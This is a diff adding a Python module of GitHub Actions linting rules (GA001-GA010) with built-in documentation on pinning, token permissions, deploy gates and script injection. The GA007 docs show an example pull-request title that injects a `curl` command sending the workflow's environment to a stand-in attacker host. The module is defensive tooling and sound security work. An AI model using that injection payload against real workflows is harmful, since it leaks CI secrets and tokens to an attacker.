@@ -1,0 +1,1124 @@
+"""GitHub Actions workflow rules GA001-GA013."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import Any
+
+from opsmith.findings import Problem
+from opsmith.parse.json_schema import schema_problems
+from opsmith.parse.shell import Command
+from opsmith.parse.workflow import Job, Step, Text, WorkflowDoc
+from opsmith.parse.workflow_expr import (
+    ExpressionError,
+    check,
+    find_expressions,
+    parse_expression,
+    value_sources,
+)
+from opsmith.parse.yaml_tree import YMap, YSeq
+from opsmith.rules import workflow_facts as facts
+from opsmith.rules.base import FileContext, RepoContext, Rule, file_rule, repo_rule
+from opsmith.rules.dockerfile_facts import unlocked_install
+from opsmith.rules.repo_facts import build_inputs, has_code
+from opsmith.rules.workflow_graph import (
+    BUILD,
+    DEPLOY,
+    LINT,
+    PREPARATION_ACTIONS,
+    PUSH,
+    SCAN,
+    TEST,
+    Deploy,
+    WorkflowSet,
+    is_manual_only,
+    is_reusable_only,
+    job_facts,
+    script_commands,
+    step_commands,
+)
+
+FAMILY = "workflow"
+SCHEMA = "github-workflows.json"
+
+
+@file_rule(
+    "GA001",
+    "E",
+    FAMILY,
+    "Workflow is not valid",
+    fix="Correct the workflow so GitHub accepts it; `actionlint` shows the same class of errors.",
+    docs="""
+## What it does
+Checks each workflow the way GitHub does before running it: the YAML must load, the file must
+follow the workflow schema (no unknown or misspelt keys, values of the right type, required keys
+present), keys must not be repeated, every job named in `needs` must exist and `needs` must not
+form a cycle, step `id`s must be unique within a job, and every `${{ }}` expression must be
+closed, well formed, and use only known contexts (`github`, `env`, `vars`, `secrets`, `needs`,
+`matrix`, `inputs`, `steps`, `job`, `jobs`, `runner`, `strategy`) and functions. Each problem is
+reported on the line of the key it is about.
+
+## Why it matters
+GitHub rejects an invalid workflow when it is triggered, not when it is pushed: the mistake shows up
+as a red run (or no run at all) on the branch that needed it, often the release. A misspelt key such
+as `timeout-minute` is silently dropped by some tools and rejected by others; a `needs` on a renamed
+job makes the whole workflow fail to start.
+
+## Example
+```yaml
+jobs:
+  deploy:
+    needs: tests          # no job is called `tests`
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.sha }"
+```
+
+## Fix
+```yaml
+jobs:
+  deploy:
+    needs: test
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.sha }}"
+```
+
+## Equivalent rules
+actionlint (syntax-check, job-needs, expression, id checks); zizmor has none (it assumes a valid
+workflow); check-jsonschema's `check-github-workflows` hook covers the schema part only.
+""",
+)
+def ga001(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    found: dict[tuple[int, str], Problem] = {}
+    checks = (
+        _duplicate_keys(doc),
+        (Problem(p.message, p.line) for p in schema_problems(SCHEMA, doc.tree)),
+        _needs_problems(doc),
+        _duplicate_step_ids(doc),
+        _expression_problems(doc),
+    )
+    for problems in checks:
+        for problem in problems:
+            found.setdefault((problem.line or 0, problem.message), problem)
+    yield from sorted(found.values(), key=lambda p: p.line or 0)
+
+
+def _maps(node: Any, seen: set[int]) -> Iterator[YMap]:
+    if id(node) in seen or not isinstance(node, YMap | YSeq):
+        return
+    seen.add(id(node))
+    if isinstance(node, YMap):
+        yield node
+    for child in node.values() if isinstance(node, YMap) else node:
+        yield from _maps(child, seen)
+
+
+def _duplicate_keys(doc: WorkflowDoc) -> Iterator[Problem]:
+    for node in _maps(doc.tree, set()):
+        for key, line in node.duplicate_keys:
+            yield Problem(f"key `{key}` is written twice in the same mapping (GitHub rejects it)", line)
+
+
+def _needs_problems(doc: WorkflowDoc) -> Iterator[Problem]:
+    ids = {j.id for j in doc.jobs}
+    for job in doc.jobs:
+        for need, line in zip(job.needs, job.needs_lines, strict=True):
+            if need not in ids:
+                yield Problem(f"job `{job.id}` needs `{need}`, which is not a job of this workflow", line)
+    cycle = _cycle(doc)
+    if cycle:
+        first = doc.job(cycle[0])
+        line = first.needs_lines[0] if first and first.needs_lines else doc.jobs_line
+        yield Problem(f"jobs wait for each other in a cycle: {' -> '.join([*cycle, cycle[0]])}", line)
+
+
+def _cycle(doc: WorkflowDoc) -> list[str] | None:
+    state: dict[str, int] = {}  # 1 visiting, 2 done
+    stack: list[str] = []
+
+    def visit(job_id: str) -> list[str] | None:
+        state[job_id] = 1
+        stack.append(job_id)
+        job = doc.job(job_id)
+        for need in job.needs if job else ():
+            if state.get(need) == 1:
+                return stack[stack.index(need) :]
+            if need not in state and doc.job(need) is not None:
+                found = visit(need)
+                if found:
+                    return found
+        stack.pop()
+        state[job_id] = 2
+        return None
+
+    for job in doc.jobs:
+        if job.id not in state:
+            found = visit(job.id)
+            if found:
+                return found
+    return None
+
+
+def _duplicate_step_ids(doc: WorkflowDoc) -> Iterator[Problem]:
+    for job in doc.jobs:
+        seen: dict[str, int] = {}
+        for step in job.steps:
+            if step.id is None:
+                continue
+            line = step.raw.key_line("id")
+            if step.id in seen:
+                yield Problem(
+                    f"step id `{step.id}` is already used in job `{job.id}` (line {seen[step.id]})", line
+                )
+            else:
+                seen[step.id] = line
+
+
+def _expression_problems(doc: WorkflowDoc) -> Iterator[Problem]:
+    for path, text in doc.strings():
+        if "${{" in text.value:
+            for expr in find_expressions(text.value):
+                line = text.line_at(expr.start)
+                if not expr.closed:
+                    yield Problem(f"`${{{{ {_short(expr.inner)}` is not closed: `}}}}` is missing", line)
+                    continue
+                reason = _expression_error(expr.inner)
+                if reason:
+                    yield Problem(f"invalid expression `${{{{ {_short(expr.inner)} }}}}`: {reason}", line)
+        elif _is_condition(path):
+            reason = _expression_error(text.value)
+            if reason:
+                yield Problem(f"invalid `if:` condition `{_short(text.value)}`: {reason}", text.line)
+
+
+def _is_condition(path: tuple[Any, ...]) -> bool:
+    return bool(path) and path[0] == "jobs" and path[-1] == "if" and len(path) in (3, 5)
+
+
+def _expression_error(text: str) -> str | None:
+    try:
+        return check(parse_expression(text))
+    except ExpressionError as exc:
+        return exc.message
+
+
+def _short(text: str, size: int = 60) -> str:
+    flat = " ".join(text.split())
+    return flat if len(flat) <= size else flat[: size - 1] + "…"
+
+
+@repo_rule(
+    "GA002",
+    "W",
+    FAMILY,
+    "Deploying workflow has no concurrency group",
+    fix="Add `concurrency: {group: deploy-${{ github.ref }}, cancel-in-progress: false}` to the "
+    "workflow or to each deploying job.",
+    docs="""
+## What it does
+Reports a workflow that deploys (a job recognised as a deploy: `kubectl apply`, `helm upgrade`,
+`terraform apply`, `flyctl deploy`, a deploy action, a reusable deploy workflow...) or pushes a
+container image, when neither the workflow nor the deploying job sets `concurrency`.
+
+## Why it matters
+Two pushes a minute apart start two runs that deploy at the same time. They race: the older commit
+can finish last and stay live, two `terraform apply` runs fight over the state lock, and a rollout
+is interrupted half-way by the next one.
+
+## Example
+```yaml
+on: {push: {branches: [main]}}
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - run: helm upgrade --install shop ./chart
+```
+
+## Fix
+```yaml
+concurrency:
+  group: deploy-production
+  cancel-in-progress: false   # let a running deploy finish; queue the next one
+```
+
+## Equivalent rules
+zizmor has no such audit (its `concurrency-limits` is a pedantic-only check); actionlint, checkov:
+none.
+""",
+)
+def ga002(repo: RepoContext) -> Iterator[Problem]:
+    flows = WorkflowSet(repo.documents(FAMILY))
+    for path, doc in flows.docs:
+        if doc.has_concurrency or is_reusable_only(doc):
+            continue
+        busy = [
+            job
+            for job in doc.jobs
+            if not job.has_concurrency
+            and (flows.deploy_of(path, doc, job) is not None or PUSH in job_facts(job).kinds)
+        ]
+        if busy:
+            names = ", ".join(f"`{j.id}`" for j in busy)
+            yield Problem(
+                f"this workflow deploys or pushes images ({_plural(busy, 'job')} {names}) without a "
+                "`concurrency` group: "
+                "two runs can deploy at once and an older commit can end up live",
+                busy[0].line,
+                path=path,
+            )
+
+
+def _plural(items: list[Any], word: str) -> str:
+    return word if len(items) == 1 else f"{word}s"
+
+
+_SHA = re.compile(r"^[0-9a-f]{40}$")
+_VERSION = re.compile(r"^v?\d+(\.\d+)*([-+.][0-9A-Za-z.-]+)?$")
+_BRANCHES = frozenset(
+    {
+        "main",
+        "master",
+        "develop",
+        "development",
+        "dev",
+        "trunk",
+        "stable",
+        "nightly",
+        "beta",
+        "latest",
+        "head",
+        "next",
+        "edge",
+        "canary",
+        "release",
+    }
+)
+_FIRST_PARTY = ("actions/", "github/")
+
+
+def _refs(doc: WorkflowDoc) -> Iterator[tuple[Text, str]]:
+    """Every `uses:` (steps and reusable-workflow jobs) with what it is: "action" or "workflow"."""
+    for job in doc.jobs:
+        if job.uses is not None:
+            yield job.uses, "workflow"
+        for step in job.steps:
+            if step.uses is not None:
+                yield step.uses, "action"
+
+
+def _ref_parts(uses: str) -> tuple[str, str | None]:
+    name, sep, ref = uses.strip().partition("@")
+    return name, (ref.strip() or None) if sep else None
+
+
+@file_rule(
+    "GA003",
+    "E",
+    FAMILY,
+    "Action or reusable workflow follows a branch",
+    fix="Pin to a full commit SHA and keep the version as a comment: `uses: owner/repo@<sha> # v1.2.3`.",
+    docs="""
+## What it does
+Reports a `uses:` that follows a moving branch (`@main`, `@master`, `@develop`, `@stable`...) or has
+no ref at all, for actions and reusable workflows alike, and a `docker://` image with no tag or the
+`latest` tag. Local actions (`./path`) are part of the same commit and are fine. Tags are judged by
+GA013.
+
+## Why it matters
+Whoever can push to that branch runs code in your pipeline, with your secrets and your
+`GITHUB_TOKEN`, on the next run, with nothing changing in your repository. Branch heads also move
+for innocent reasons, so yesterday's green build is not reproducible today.
+
+## Example
+```yaml
+- uses: aquasecurity/trivy-action@master
+- uses: docker://alpine
+```
+
+## Fix
+```yaml
+- uses: aquasecurity/trivy-action@ed142fd0673e97e23eac54620cfb913e5ce36c25 # v0.36.0
+- uses: docker://alpine:3.20@sha256:<digest>
+```
+Dependabot and Renovate both update SHA pins and their version comments.
+
+## Equivalent rules
+zizmor `unpinned-uses` (and `ref-confusion`); actionlint has none; checkov CKV_GHA_* has none for
+branches; OpenSSF Scorecard "Pinned-Dependencies".
+""",
+)
+def ga003(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    for uses, _what in _refs(doc):
+        verdict = _pin_verdict(uses.value)
+        if verdict is not None and verdict[0] == "moving":
+            yield Problem(verdict[1], uses.line, fix=_suggestion(uses.value))
+
+
+@file_rule(
+    "GA013",
+    "W",
+    FAMILY,
+    "Third-party action pinned to a tag, not a commit",
+    fix="Replace the tag with the commit SHA it points to and keep the tag as a comment.",
+    docs="""
+## What it does
+Reports a third-party action or reusable workflow (anything outside `actions/` and `github/`) whose
+ref is a tag (`@v4`, `@v1.2.3`) or another name rather than a full 40-character commit SHA, and a
+`docker://` image pinned by tag without a digest. GitHub's own actions may use release tags.
+
+## Why it matters
+Tags can be moved by anyone with write access to the action's repository, and attackers who take
+over a maintainer account do exactly that: the tj-actions/changed-files compromise in 2025 re-pointed
+every tag of a popular action at code that printed CI secrets into public logs. A commit SHA cannot
+be re-pointed.
+
+## Example
+```yaml
+- uses: docker/build-push-action@v6
+```
+
+## Fix
+```yaml
+- uses: docker/build-push-action@<40-character sha> # v6.x.y
+```
+
+## Equivalent rules
+zizmor `unpinned-uses` (hash-pin policy for third parties); checkov CKV_GHA_* has none; OpenSSF
+Scorecard "Pinned-Dependencies".
+""",
+)
+def ga013(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    for uses, _what in _refs(doc):
+        verdict = _pin_verdict(uses.value)
+        if verdict is not None and verdict[0] == "tag":
+            yield Problem(verdict[1], uses.line, fix=_suggestion(uses.value))
+
+
+def _pin_verdict(uses: str) -> tuple[str, str] | None:
+    """("moving" | "tag", message) for a ref that is not pinned, None when it is."""
+    text = uses.strip()
+    if text.startswith("./") or "${{" in text:
+        return None
+    if text.startswith("docker://"):
+        return _image_verdict(text)
+    name, ref = _ref_parts(text)
+    if ref is None:
+        return "moving", f"`{text}` has no ref: say which commit to run"
+    if _SHA.match(ref):
+        return None
+    if ref.lower() in _BRANCHES:
+        return "moving", f"`{text}` follows the `{ref}` branch: whatever is pushed there runs here"
+    if name.lower().startswith(_FIRST_PARTY):
+        if _VERSION.match(ref):
+            return None
+        return "tag", f"`{text}`: `{ref}` is neither a release tag nor a commit SHA"
+    if re.fullmatch(r"[0-9a-f]{7,39}", ref):
+        return "tag", f"`{text}` uses a short SHA: only a full 40-character SHA is immutable"
+    return "tag", f"third-party `{text}` is pinned to a tag, which its owners can move"
+
+
+def _image_verdict(text: str) -> tuple[str, str] | None:
+    from opsmith.parse.dockerfile import image_ref
+
+    ref = image_ref(text.removeprefix("docker://"))
+    if ref.digest:
+        return None
+    if ref.tag is None or ref.tag == "latest":
+        return "moving", f"`{text}` runs whatever image is `latest` at the time"
+    return "tag", f"`{text}` is pinned by tag only; add the image digest"
+
+
+def _suggestion(uses: str) -> str | None:
+    name, ref = _ref_parts(uses.strip())
+    pin = facts.known_pin("/".join(name.lower().split("/")[:2]))
+    if pin is None:
+        return None
+    sha, tag = pin
+    same_major = ref is not None and _major(ref) is not None and _major(ref) == _major(tag)
+    if same_major or ref is None or ref.lower() in _BRANCHES:
+        return f"Pin to a commit: `uses: {name}@{sha} # {tag}`."
+    return (
+        f"Pin to the commit of the release you use (`git ls-remote` the tag); the newest release "
+        f"opsmith knows is `{name}@{sha} # {tag}`, a different major version: read its changelog first."
+    )
+
+
+def _major(ref: str) -> str | None:
+    match = re.match(r"v?(\d+)", ref)
+    return match.group(1) if match else None
+
+
+@file_rule(
+    "GA004",
+    "W",
+    FAMILY,
+    "GITHUB_TOKEN permissions not restricted",
+    fix="Add `permissions: {contents: read}` at the top of the workflow and grant more per job.",
+    docs="""
+## What it does
+Reports a workflow that sets no `permissions:` at the top level while at least one of its jobs sets
+none either, and any `permissions: write-all`.
+
+## Why it matters
+Without `permissions:`, the `GITHUB_TOKEN` of every job gets the repository's default, which is
+read-write on contents, packages, issues, pull requests and more in many organisations. Any
+compromised step (a hijacked action, an injected script) can then push code, publish packages or
+rewrite releases. Least privilege limits what a bad step can do.
+
+## Example
+```yaml
+on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps: [...]
+```
+
+## Fix
+```yaml
+on: push
+permissions:
+  contents: read
+jobs:
+  release:
+    permissions:
+      contents: write   # only the job that needs it
+```
+
+## Equivalent rules
+zizmor `excessive-permissions`; checkov CKV2_GHA_1 (top-level permissions not write-all);
+OpenSSF Scorecard "Token-Permissions".
+""",
+)
+def ga004(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    if doc.tree.get("permissions") == "write-all":
+        yield Problem(
+            "`permissions: write-all` gives every job write access to everything",
+            doc.tree.key_line("permissions"),
+        )
+    for job in doc.jobs:
+        if job.raw.get("permissions") == "write-all":
+            yield Problem(f"job `{job.id}` has `permissions: write-all`", job.raw.key_line("permissions"))
+    if doc.has_permissions:
+        return
+    bare = [j.id for j in doc.jobs if not j.has_permissions]
+    if bare:
+        jobs = ", ".join(f"`{j}`" for j in bare[:5]) + (" ..." if len(bare) > 5 else "")
+        yield Problem(
+            f"no `permissions:` for the workflow nor for {_plural(bare, 'job')} {jobs}: their "
+            "GITHUB_TOKEN gets the repository default, often read-write",
+            doc.tree.line,
+        )
+
+
+@repo_rule(
+    "GA005",
+    "E",
+    FAMILY,
+    "Production deploy without environment or gates",
+    fix="Give the deploy job `environment: production` and make it `needs:` the test and security "
+    "scan jobs (directly or through the build job).",
+    docs="""
+## What it does
+Finds jobs that deploy to production (recognised by their commands and actions: `kubectl apply`,
+`helm upgrade`, `terraform apply`, `flyctl deploy`, `aws ecs update-service`, `gcloud run deploy`,
+`docker compose up` over ssh, `railway up`, `opsmith deploy`, deploy scripts, deploy actions; the
+target is read from the environment name, the job name and the deploy command; an unlabelled deploy
+counts as production) and reports them when:
+
+- the job has no `environment:`, or
+- it can run without a test job and a security-scan job having passed first. Gating follows
+  `needs` transitively (a job only runs when everything it needs succeeded, unless its `if:` uses
+  `always()`), a caller job of a local reusable workflow, and `workflow_run` triggers that check
+  `conclusion == 'success'`. Manual-only workflows (`workflow_dispatch`) with an environment are
+  left to that environment's protection rules.
+
+## Why it matters
+An environment is where required reviewers, wait timers, branch restrictions and
+production-only secrets live; a deploy job without one runs with none of them. A deploy that does
+not wait for the tests and the security scan ships whatever was pushed, even when CI is red.
+
+## Example
+```yaml
+jobs:
+  test: {runs-on: ubuntu-latest, steps: [{run: npm test}]}
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - run: kubectl apply -f k8s/
+```
+
+## Fix
+```yaml
+jobs:
+  deploy:
+    needs: [test, scan]
+    environment: production
+    runs-on: ubuntu-latest
+    steps:
+      - run: kubectl apply -f k8s/
+```
+
+## Equivalent rules
+None in zizmor, actionlint or checkov (they do not model deploys).
+""",
+)
+def ga005(repo: RepoContext) -> Iterator[Problem]:
+    flows = WorkflowSet(repo.documents(FAMILY))
+    for deploy in flows.deploys():
+        if not deploy.production:
+            continue
+        job = deploy.job
+        issues: list[str] = []
+        if job.uses is None and job.environment is None:
+            issues.append("has no `environment:` (no reviewers, no protection rules, no scoped secrets)")
+        missing = _missing_gates(flows, deploy)
+        if missing:
+            issues.append(f"can run before any {' or '.join(missing)} has passed")
+        if issues:
+            yield Problem(
+                f"production deploy job `{job.id}` " + " and ".join(issues), job.line, path=deploy.path
+            )
+
+
+def _missing_gates(flows: WorkflowSet, deploy: Deploy) -> list[str]:
+    doc, job = deploy.doc, deploy.job
+    if is_reusable_only(doc):
+        return []  # its callers are deploy jobs too, judged where the `needs` are
+    if is_manual_only(doc) and (job.environment is not None or job.uses is not None):
+        return []  # left to the environment's protection rules
+    gates = flows.gates(doc, job, job_facts(job).first(DEPLOY))
+    names = {TEST: "test job", SCAN: "security scan"}
+    return [names[k] for k in (TEST, SCAN) if k not in gates]
+
+
+@repo_rule(
+    "GA006",
+    "W",
+    FAMILY,
+    "CI lacks a stage",
+    fix="Add the missing jobs to CI: lint, test, build and a security scan (e.g. Trivy, CodeQL, "
+    "`npm audit`, `pip-audit`, zizmor).",
+    docs="""
+## What it does
+Looks at all workflows of the repository together and reports, once, which of the usual CI stages
+none of them runs: lint (linters, formatters in check mode, type checkers), test, build, security
+scan. A build stage is only asked for when the repository has something to build (a Dockerfile, a
+`package.json` with a `build` script, `go.mod`, `Cargo.toml`, `pom.xml`, `build.gradle`, a
+`pyproject.toml` with a `[build-system]`...); lint and test only when it holds code. The finding is
+placed on the workflow that looks like the main CI.
+
+## Why it matters
+Each stage catches a different class of failure before it reaches users: lint catches mistakes
+cheaply, tests catch regressions, the build proves the artifact can be produced from a clean
+checkout, and a scan catches known-vulnerable dependencies and misconfigurations. A missing stage
+means that class of bug is found in production.
+
+## Example
+A repository with a Dockerfile whose only workflow runs `npm test`.
+
+## Fix
+```yaml
+jobs:
+  lint:  {runs-on: ubuntu-latest, steps: [..., {run: npm run lint}]}
+  test:  {runs-on: ubuntu-latest, steps: [..., {run: npm test}]}
+  scan:  {runs-on: ubuntu-latest, steps: [..., {uses: aquasecurity/trivy-action@<sha>}]}
+  build:
+    needs: [lint, test, scan]
+    runs-on: ubuntu-latest
+    steps: [..., {uses: docker/build-push-action@<sha>}]
+```
+
+## Equivalent rules
+None in zizmor, actionlint or checkov.
+""",
+)
+def ga006(repo: RepoContext) -> Iterator[Problem]:
+    flows = WorkflowSet(repo.documents(FAMILY))
+    if not flows.docs or not has_code(repo):
+        return
+    seen: set[str] = set()
+    for _path, doc in flows.docs:
+        for job in doc.jobs:
+            seen |= job_facts(job).kinds
+    wanted = [LINT, TEST, SCAN] + ([BUILD] if build_inputs(repo) else [])
+    missing = [k for k in wanted if k not in seen]
+    if not missing:
+        return
+    path, doc = _main_ci(flows)
+    names = {LINT: "lint", TEST: "test", SCAN: "security scan", BUILD: "build"}
+    words = [names[k] for k in missing]
+    listed = words[0] if len(words) == 1 else f"{', '.join(words[:-1])} or {words[-1]}"
+    yield Problem(f"no workflow of this repository runs a {listed} stage", doc.jobs_line, path=path)
+
+
+def _main_ci(flows: WorkflowSet) -> tuple[str, WorkflowDoc]:
+    def rank(item: tuple[str, WorkflowDoc]) -> tuple[bool, bool, int, str]:
+        path, doc = item  # CI checks pull requests; then pushes; then the busiest workflow
+        return ("pull_request" not in doc.triggers, "push" not in doc.triggers, -len(doc.jobs), path)
+
+    return min(flows.docs, key=rank)
+
+
+@file_rule(
+    "GA007",
+    "E",
+    FAMILY,
+    "Untrusted input expanded into a script",
+    fix="Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use "
+    '`"$TITLE"` in the script.',
+    docs="""
+## What it does
+Reports `${{ }}` expressions inside `run:` scripts and `actions/github-script` `script:` inputs whose
+value can be written by whoever opens an issue, a pull request, a comment, a review or a discussion,
+or pushes a commit: titles and bodies, head branch names and labels, commit messages and author
+names and emails, `github.head_ref`, `workflow_run` head branches and commits, and
+`workflow_dispatch` inputs. Values that only pass through a comparison or `contains()` (booleans) are
+fine, and so are `github.sha`, `github.run_id`, numbers and the like.
+
+## Why it matters
+GitHub pastes the expression's text into the script before the shell runs it. A pull request titled
+`a"; curl -d "$(env)" https://evil.example #` then runs the attacker's command inside your workflow,
+with its secrets and token. This is the most common way public repositories get their CI taken
+over.
+
+## Example
+```yaml
+- run: echo "New issue: ${{ github.event.issue.title }}"
+```
+
+## Fix
+```yaml
+- env:
+    TITLE: ${{ github.event.issue.title }}
+  run: echo "New issue: $TITLE"
+```
+
+## Equivalent rules
+zizmor `template-injection`; actionlint `expression` (untrusted input checks); checkov CKV_GHA_2 /
+CKV2_GHA_* (shell injection).
+""",
+)
+def ga007(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    dispatch = "workflow_dispatch" in doc.triggers
+    for job in doc.jobs:
+        for step in job.steps:
+            script = step.run
+            if script is None and step.action.startswith("actions/github-script"):
+                script = step.input("script")
+            if script is None:
+                continue
+            for offset, source in _untrusted(script.value, dispatch):
+                yield Problem(
+                    f"`{source}` is expanded into the script of {step.label}: whoever writes it can run "
+                    "commands here",
+                    script.line_at(offset),
+                )
+
+
+_UNTRUSTED = re.compile(
+    r"^github\.(?:head_ref"
+    r"|event\.(?:issue|pull_request|discussion)\.(?:title|body)"
+    r"|event\.(?:comment|review|review_comment)\.body"
+    r"|event\.pull_request\.head\.(?:ref|label|repo\.default_branch)"
+    r"|event\.(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:name|email)|committer\.(?:name|email))"
+    r"|event\.commits\.\*\.(?:message|author\.(?:name|email)|committer\.(?:name|email))"
+    r"|event\.workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)"
+    r"|event\.pages\.\*\.page_name"
+    r"|event\.inputs\.[^.]+)$"
+)
+
+
+def _untrusted(script: str, dispatch: bool) -> Iterator[tuple[int, str]]:
+    for expr in find_expressions(script):
+        if not expr.closed:
+            continue
+        try:
+            node = parse_expression(expr.inner)
+        except ExpressionError:
+            continue
+        for ref in value_sources(node):
+            name = _tainted(ref.path, dispatch)
+            if name:
+                yield expr.start, name
+                break
+
+
+def _tainted(path: tuple[str, ...], dispatch: bool) -> str | None:
+    dotted = ".".join(path)
+    if path[0] == "inputs" and len(path) > 1:
+        return dotted if dispatch else None
+    if path[0] != "github":
+        return None
+    if dotted.startswith("github.event.inputs."):
+        return dotted
+    if _UNTRUSTED.match(dotted):
+        return dotted
+    # A whole object that contains untrusted text (`toJSON(github.event.pull_request)`).
+    if dotted in _UNTRUSTED_PARENTS:
+        return dotted
+    return None
+
+
+_UNTRUSTED_PARENTS = frozenset(
+    {
+        "github",
+        "github.event",
+        "github.event.issue",
+        "github.event.pull_request",
+        "github.event.comment",
+        "github.event.review",
+        "github.event.review_comment",
+        "github.event.discussion",
+        "github.event.head_commit",
+        "github.event.commits",
+        "github.event.workflow_run",
+    }
+)
+
+
+@file_rule(
+    "GA008",
+    "E",
+    FAMILY,
+    "Privileged trigger checks out the pull request's code",
+    fix="Use `pull_request` for anything that runs the PR's code; keep `pull_request_target` and "
+    "`workflow_run` to steps that never execute it.",
+    docs="""
+## What it does
+In workflows triggered by `pull_request_target` or `workflow_run`, reports steps that fetch the pull
+request's head: `actions/checkout` with a `ref:` (or `repository:`) taken from
+`github.event.pull_request.head.*`, `github.head_ref`, `refs/pull/...`, or
+`github.event.workflow_run.head_*`, and `gh pr checkout` / `git fetch ... pull/...` in scripts. Jobs
+that only run for pull requests from the same repository (an `if:` comparing the head repository
+with `github.repository`) are exempt.
+
+## Why it matters
+These triggers run in the context of the base repository: with its secrets and a token that can
+write. Checking out the pull request and then building or testing it runs code from any fork with
+those privileges ("pwn request"): a `package.json` `postinstall`, a test file or a Makefile is
+enough to steal every secret.
+
+## Example
+```yaml
+on: pull_request_target
+jobs:
+  test:
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: npm ci && npm test
+```
+
+## Fix
+Run the tests under `on: pull_request` (no secrets for forks). If a privileged step must follow,
+pass results as artifacts to a separate `workflow_run` job that never executes the PR's files.
+
+## Equivalent rules
+zizmor `dangerous-triggers` and `artipacked`-adjacent checks; checkov CKV_GHA_* has none; CodeQL
+`actions/untrusted-checkout`.
+""",
+)
+def ga008(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    trigger = next((t for t in ("pull_request_target", "workflow_run") if t in doc.triggers), None)
+    if trigger is None:
+        return
+    for job in doc.jobs:
+        if job.if_ is not None and _same_repo_only(job.if_.value):
+            continue
+        for step in job.steps:
+            where = _head_checkout(step)
+            if where is not None:
+                yield Problem(
+                    f"`{trigger}` runs with this repository's secrets and token, and {step.label} "
+                    "fetches the pull request's own code",
+                    where,
+                )
+
+
+_HEAD_REF = re.compile(
+    r"pull_request\.head\.(?:sha|ref|repo\.full_name)|github\.head_ref|refs/pull/|pull_request\.merge_commit_sha"
+    r"|workflow_run\.head_(?:sha|branch|repository)|\bpull/\$\{\{",
+    re.IGNORECASE,
+)
+_SAME_REPO = re.compile(
+    r"head(?:_repository|\.repo)\.full_name\s*==\s*github\.repository"
+    r"|github\.repository\s*==\s*[\w.]*head(?:_repository|\.repo)\.full_name"
+    r"|head\.repo\.fork\s*==\s*false|!\s*github\.event\.pull_request\.head\.repo\.fork",
+    re.IGNORECASE,
+)
+
+
+def _same_repo_only(condition: str) -> bool:
+    return bool(_SAME_REPO.search(condition)) and "||" not in condition
+
+
+def _head_checkout(step: Step) -> int | None:
+    if step.action.startswith("actions/checkout"):
+        for key in ("ref", "repository"):
+            text = step.input(key)
+            if text is not None and _HEAD_REF.search(text.value):
+                return text.line
+        return None
+    if step.run is None:
+        return None
+    for cmd in step_commands(step):
+        words = cmd.words
+        if cmd.program == "gh" and "pr" in words and "checkout" in words:
+            return facts.command_line(step.run, cmd)
+        if (
+            cmd.program == "git"
+            and {"fetch", "checkout", "switch"} & set(words)
+            and any(_HEAD_REF.search(w) for w in words)
+        ):
+            return facts.command_line(step.run, cmd)
+    return None
+
+
+@file_rule(
+    "GA009",
+    "W",
+    FAMILY,
+    "CI install ignores the lockfile",
+    fix="Install from the lockfile: `npm ci`, `pnpm install --frozen-lockfile`, "
+    "`yarn install --immutable`, `uv sync --locked`.",
+    docs="""
+## What it does
+Reports dependency installs in `run:` steps that may resolve versions other than the locked ones:
+`npm install` without package arguments, `yarn install` without `--immutable`/`--frozen-lockfile`,
+`pnpm install` without `--frozen-lockfile`, `bun install` without `--frozen-lockfile`, and
+`uv sync` without `--locked`/`--frozen`. Installing a named tool (`npm install -g x`,
+`pip install ruff`) is not what this rule is about.
+
+## Why it matters
+CI should test exactly what will ship. An install that is free to update the lockfile tests
+different versions than the developer ran, hides a lockfile that is out of date, and pulls a freshly
+published (possibly malicious) release into a pipeline that holds deploy credentials. (pnpm and
+Yarn 2+ freeze the lockfile on CI by default when they detect one; saying it explicitly makes the
+intent visible and fails loudly when the lockfile is missing.)
+
+## Example
+```yaml
+- run: npm install
+- run: pnpm install
+```
+
+## Fix
+```yaml
+- run: npm ci
+- run: pnpm install --frozen-lockfile
+```
+
+## Equivalent rules
+None in zizmor, actionlint or checkov; hadolint DL3016 is the Dockerfile neighbour (DF011 here).
+""",
+)
+def ga009(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
+    for job in doc.jobs:
+        for step in job.steps:
+            if step.run is None:
+                continue
+            for cmd in script_commands(step.run.value):
+                reason = _unlocked(cmd)
+                if reason:
+                    yield Problem(reason, facts.command_line(step.run, cmd))
+
+
+def _unlocked(cmd: Command) -> str | None:
+    sub = cmd.unwrapped()
+    if sub.program == "bun":
+        positional = [a for a in sub.args() if not a.startswith("-")]
+        if positional == ["install"] and not sub.has("--frozen-lockfile"):
+            return "`bun install` without `--frozen-lockfile`"
+        return None
+    if sub.program not in ("npm", "yarn", "pnpm", "uv") or sub.has("-g", "--global"):
+        return None
+    return unlocked_install(sub)
+
+
+@file_rule(
+    "GA010",
+    "W",
+    FAMILY,
+    "Deploy step that does nothing",
+    fix="Replace the placeholder with the real deploy command (or remove the job until there is one).",
+    docs="""
+## What it does
+Reports a deploy step (named "deploy", or in a job whose name or `environment:` says it deploys)
+whose script only prints or waits (`echo`, `printf`, `sleep`, `true`), when the job has no real
+deploy step.
+
+## Why it matters
+A placeholder deploy turns the pipeline green and makes everyone believe the release went out,
+while production still runs the previous version. It often survives for months because nothing
+fails.
+
+## Example
+```yaml
+deploy:
+  environment: production
+  steps:
+    - name: Deploy to production
+      run: echo "Deploying ${{ github.sha }}"
+```
+
+## Fix
+```yaml
+    - name: Deploy to production
+      run: helm upgrade --install shop ./chart --set image.tag=${{ github.sha }} --wait --atomic
+```
+
+## Equivalent rules
+None in zizmor, actionlint or checkov.
+""",
+)
